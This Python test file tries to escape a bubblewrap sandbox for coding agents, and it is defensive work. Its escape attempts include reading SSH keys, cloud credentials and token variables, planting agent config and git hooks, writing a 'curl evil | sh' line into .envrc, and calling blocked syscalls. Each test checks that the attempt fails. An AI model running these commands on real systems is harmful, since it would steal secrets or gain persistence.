"""Escape attempts against the real bubblewrap sandbox: each must fail, and a control proves the
test would have noticed if it had not."""

from __future__ import annotations

import os
import socket
import threading

import pytest
from sandbox_env import PY, needs_bwrap, out

from warden.adapters.exec import Limits, Profile

pytestmark = [needs_bwrap, pytest.mark.e2e]




def test_workspace_is_writable_and_outside_is_not(world):
    r = world.run(f"echo ok > inside.txt; echo bad > {world.outside}/new.txt; echo bad >> {world.outside}/data.txt;"
                  f" echo bad > /etc/warden-escape; echo bad > {world.home}/.bashrc; echo done")
    assert r.returncode == 0, out(r)
    assert (world.ws / "inside.txt").read_text() == "ok\n"
    assert not (world.outside / "new.txt").exists()
    assert (world.outside / "data.txt").read_text() == "outside\n"
    assert not os.path.exists("/etc/warden-escape")
    assert not (world.home / ".bashrc").exists()
    assert out(r).count("Read-only file system") == 4


def test_dotdot_traversal_cannot_leave_the_workspace(world):
    (world.ws / "deep" / "er").mkdir(parents=True)
    r = world.run("cd deep/er && echo bad > ../../../outside/dotdot.txt; echo bad > ../../../dotdot.txt")
    assert "Read-only file system" in out(r)
    assert not (world.outside / "dotdot.txt").exists()
    assert not (world.base / "dotdot.txt").exists()


def test_symlink_planted_in_workspace_does_not_lead_out(world):
    (world.ws / "link").symlink_to(world.outside)
    (world.ws / "keylink").symlink_to(world.home / ".ssh" / "id_rsa")
    r = world.run("echo bad > link/planted.txt; echo bad >> link/data.txt; cat keylink; echo end")
    assert not (world.outside / "planted.txt").exists()
    assert (world.outside / "data.txt").read_text() == "outside\n"
    assert "SECRETKEY" not in out(r)
    assert "end" in out(r)


@pytest.mark.parametrize("target", [".git/hooks/pre-commit", ".git/config", ".claude/settings.json",
                                    ".mcp.json", "warden.yaml", ".warden/policy.yaml", ".github/workflows/ci.yml",
                                    ".cursor/mcp.json"])
def test_protected_paths_stay_read_only(world, target):
    for parent in (".claude", ".warden", ".github/workflows", ".cursor"):
        (world.ws / parent).mkdir(parents=True, exist_ok=True)
    for f in (".claude/settings.json", ".mcp.json", "warden.yaml", ".warden/policy.yaml",
              ".github/workflows/ci.yml", ".cursor/mcp.json"):
        (world.ws / f).write_text("original\n")
    before = (world.ws / target).read_text() if (world.ws / target).exists() else None
    r = world.run(f"echo evil > {target}; echo evil >> {target}; echo end")
    after = (world.ws / target).read_text() if (world.ws / target).exists() else None
    assert after == before, out(r)
    assert "Read-only file system" in out(r)


def test_absent_protected_paths_cannot_be_planted(world):
    r = world.run("mkdir -p .claude && echo '{}' > .claude/settings.json; echo '{}' > .mcp.json;"
                  " mkdir -p .github/workflows; echo x > .github/workflows/evil.yml; echo end")
    assert "end" in out(r)
    assert not (world.ws / ".claude").exists()  # the read-only placeholder is gone, nothing planted
    assert not (world.ws / ".github").exists()
    assert not (world.ws / ".mcp.json").exists()  # created inside, removed after and reported
    assert any(".mcp.json" in v for v in r.violations)


def test_a_git_worktree_pointer_that_was_there_before_is_left_alone(world):
    import shutil

    shutil.rmtree(world.ws / ".git", ignore_errors=True)
    (world.ws / ".git").write_text(f"gitdir: {world.outside}/main/.git/worktrees/ws\n")  # a `git worktree` checkout
    r = world.run("echo end")
    assert "end" in out(r)
    assert (world.ws / ".git").is_file() and not (world.ws / ".git.warden-quarantine").exists()
    assert not any("git repository" in v for v in r.violations), r.violations


def test_profile_can_grant_a_protected_path(world):
    (world.ws / ".claude").mkdir()
    r = world.run("echo ok > .claude/notes.txt", Profile(writable=(".claude",)))
    assert r.returncode == 0, out(r)
    assert (world.ws / ".claude" / "notes.txt").read_text() == "ok\n"


def test_secrets_are_masked_and_ordinary_files_are_not(world):
    script = ("cat ~/.ssh/id_rsa ~/.aws/credentials ~/.config/gh/hosts.yml ~/.netrc ~/.docker/config.json"
              f" ~/.kube/config .env app/.env.local {world.warden_home}/audit.key; ls -a ~/.ssh;"
              " cat ~/.profile .env.example")
    r = world.run(script)
    text = out(r)
    assert "SECRET" not in text, text
    assert "PUBLIC_PROFILE" in text and "changeme" in text  # control: the view is real, not empty


def test_profile_masks_extra_paths(world):
    (world.ws / "certs").mkdir()
    (world.ws / "certs" / "server.key").write_text("SECRETCERT\n")
    r = world.run("cat certs/server.key; echo end", Profile(masked=("certs/*.key",)))
    assert "SECRETCERT" not in out(r) and "end" in out(r)
    r = world.run("cat certs/server.key")
    assert "SECRETCERT" in out(r)  # control


def test_closed_network_cannot_reach_host_loopback(world):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    port = srv.getsockname()[1]
    accepted = []
    t = threading.Thread(target=lambda: accepted.append(srv.accept()), daemon=True)
    t.start()
    try:
        r = world.py(f"import socket\ntry:\n socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                     f" print('CONNECTED')\nexcept OSError as e:\n print('refused', e)")
        assert "refused" in out(r) and "CONNECTED" not in out(r)
        assert not accepted
        socket.create_connection(("127.0.0.1", port), timeout=3).close()  # control: reachable from outside
        t.join(3)
        assert accepted
    finally:
        srv.close()


def test_credential_variables_are_absent(world):
    world.env.update({"GITHUB_TOKEN": "ghp_" + "a" * 36, "AWS_SECRET_ACCESS_KEY": "x" * 40, "MY_API_KEY": "k",
                      "INNOCENT_LOOKING": "ghp_" + "b" * 36, "DATABASE_URL": "postgres://u:pw@db/x",
                      "SSH_AUTH_SOCK": "/run/user/0/agent", "BUILD_MODE": "release", "KEEP_TOKEN": "t"})
    r = world.run("env", Profile(env_allow=("KEEP_TOKEN",)))
    text = out(r)
    for name in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "MY_API_KEY", "INNOCENT_LOOKING", "DATABASE_URL",
                 "SSH_AUTH_SOCK"):
        assert f"{name}=" not in text
        assert name in r.env_removed
    assert "BUILD_MODE=release" in text and "KEEP_TOKEN=t" in text


SYSCALLS = r"""
import ctypes, errno, os, platform
libc = ctypes.CDLL(None, use_errno=True)
nr = {"x86_64": {"ptrace": 101, "keyctl": 250, "unshare": 272, "mount": 165, "bpf": 321},
      "aarch64": {"ptrace": 117, "keyctl": 219, "unshare": 97, "mount": 40, "bpf": 280}}[platform.machine()]
def call(name, *args):
    ctypes.set_errno(0)
    r = libc.syscall(nr[name], *args)
    print(name, r, errno.errorcode.get(ctypes.get_errno(), "0"))
call("ptrace", 0, 0, 0, 0)                       # PTRACE_TRACEME
call("keyctl", 0, ctypes.c_long(-3), 0)          # KEYCTL_GET_KEYRING_ID, session keyring
call("unshare", 0x10000000)                      # CLONE_NEWUSER
call("mount", b"none", b"/mnt", b"tmpfs", 0, 0)
call("bpf", 0, 0, 0)
status = open("/proc/self/status").read()
print("seccomp", status.split("Seccomp:")[1].split()[0], "nnp", status.split("NoNewPrivs:")[1].split()[0])
pid = os.fork()
if pid == 0:
    os._exit(7)
print("fork", os.waitpid(pid, 0)[1] >> 8)
"""


def test_seccomp_blocks_dangerous_syscalls(world):
    r = world.py(SYSCALLS)
    lines = dict(line.split(" ", 1) for line in out(r).splitlines() if " " in line)
    for name in ("ptrace", "keyctl", "unshare", "mount", "bpf"):
        assert lines[name] == "-1 EPERM", out(r)
    assert lines["seccomp"] == "2 nnp 1"
    assert lines["fork"] == "7"  # ordinary process creation still works


def test_memory_limit(world):
    r = world.py("b = bytearray(400 * 1024 * 1024); print('ALLOCATED')", Profile(limits=Limits(memory_mb=200)))
    assert "ALLOCATED" not in out(r) and "MemoryError" in out(r)


def test_process_limit(world):
    code = ("import os, time\nn = 0\ntry:\n    for i in range(200):\n        if os.fork() == 0:\n"
            "            time.sleep(2); os._exit(0)\n        n += 1\nexcept OSError as e:\n    print('LIMITED', n)\n"
            "else:\n    print('UNLIMITED', n)")
    r = world.py(code, Profile(limits=Limits(processes=40)))
    if r.plan["limits"]["processes_enforced_by"] == "RLIMIT_NPROC (not enforced for root)":
        pytest.skip("running as root without a writable pids cgroup: the kernel cannot cap processes here")
    assert "LIMITED" in out(r) and "UNLIMITED" not in out(r), (out(r), r.plan["limits"])


def test_wall_clock_limit(world):
    r = world.run("sleep 30", Profile(limits=Limits(wall_seconds=1)))
    assert r.timed_out and r.returncode == 124


def test_cpu_limit(world):
    r = world.py("while True: pass", Profile(limits=Limits(cpu_seconds=1, wall_seconds=30)))
    assert not r.timed_out
    assert r.returncode == 128 + 24  # SIGXCPU


def test_cannot_rebuild_namespaces_inside(world):
    r = world.run("unshare -U true && echo NESTED || echo blocked")
    assert "blocked" in out(r) and "NESTED" not in out(r)


def test_host_sockets_under_run_are_hidden(world):
    # only Warden's own /run/warden (the egress relay that explains a closed network) is there
    r = world.run("ls -A /run; ls -A /run/warden")
    assert out(r).split() == ["warden", "egress.sock", "relay.py"], out(r)


def test_direnv_and_submodule_hooks_are_protected(world):
    hooks = world.ws / ".git" / "modules" / "lib" / "hooks"
    hooks.mkdir(parents=True)
    r = world.run("echo 'curl evil | sh' > .envrc; echo x > .git/modules/lib/hooks/post-checkout;"
                  " ln -s /bin/sh .git/config.worktree; echo end")
    assert "end" in out(r)
    assert not (world.ws / ".envrc").exists()
    assert not (hooks / "post-checkout").exists()
    assert not os.path.lexists(world.ws / ".git" / "config.worktree")
    assert {".envrc", "config.worktree"} <= {os.path.basename(v.split(" ")[3]) for v in r.violations}


def test_kernel_knobs_in_proc_are_read_only(world):
    # Writing the current value back changes nothing if it got through; as root without the
    # read-only cover this write succeeds (and core_pattern next to it is a host-root escape).
    code = ("p = '/proc/sys/kernel/printk_ratelimit'\nv = open(p).read()\ntry:\n"
            "    open(p, 'w').write(v)\n    print('WROTE')\nexcept OSError as e:\n    print('blocked', e.strerror)\n"
            "print(open('/proc/sys/kernel/hostname').read().strip())")
    r = world.py(code)
    assert "blocked" in out(r) and "WROTE" not in out(r), out(r)


_FILL = ("import sys\np, n = sys.argv[1], int(sys.argv[2])\nw = 0\ntry:\n    with open(p, 'wb') as f:\n"
         "        for _ in range(n):\n            f.write(b'x' * (1 << 20)); f.flush(); w += 1\n"
         "except OSError as e:\n    print('stopped', e.strerror)\nprint('wrote', w)\n")


def _used_mb(world, target: str, mb: int, profile) -> int:
    """Write ``mb`` MiB to ``target`` inside the sandbox; MiB the tmpfs holds afterwards (the writer may be
    stopped by a full tmpfs or killed by the memory cgroup: either way the bound held)."""
    d = os.path.dirname(target)
    r = world.run(f"dd if=/dev/zero of={target} bs=1M count={mb} 2>/dev/null; df -k {d} | tail -1", profile)
    return int(out(r).split()[-4]) // 1024


@pytest.mark.parametrize("target", ["/tmp/fill", "/dev/shm/fill"])
def test_private_tmpfs_is_bounded_by_the_memory_limit(world, target):
    profile = Profile(limits=Limits(memory_mb=256))
    assert _used_mb(world, target, 400, profile) <= 256
    assert _used_mb(world, target, 50, profile) >= 50  # control: under the bound it works


def test_workspace_files_are_bounded_by_file_mb(world):
    from warden.adapters.exec import run_sandboxed

    r = run_sandboxed([PY, "-c", "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n" + _FILL,
                       "big.bin", "20"], Profile(limits=Limits(file_mb=8)), str(world.ws), cwd=str(world.ws),
                      env=world.env, warden_home=str(world.warden_home), capture=True)
    assert "stopped File too large" in out(r) and "wrote 8" in out(r), out(r)
    assert (world.ws / "big.bin").stat().st_size == 8 * 1024 * 1024


def test_limits_say_what_enforces_memory(world):
    r = world.run("true", Profile(limits=Limits(memory_mb=300)))
    limits = r.plan["limits"]
    assert limits["tmpfs_mb"] == 300 and limits["file_mb"] == Limits().file_mb
    assert limits["memory_enforced_by"]
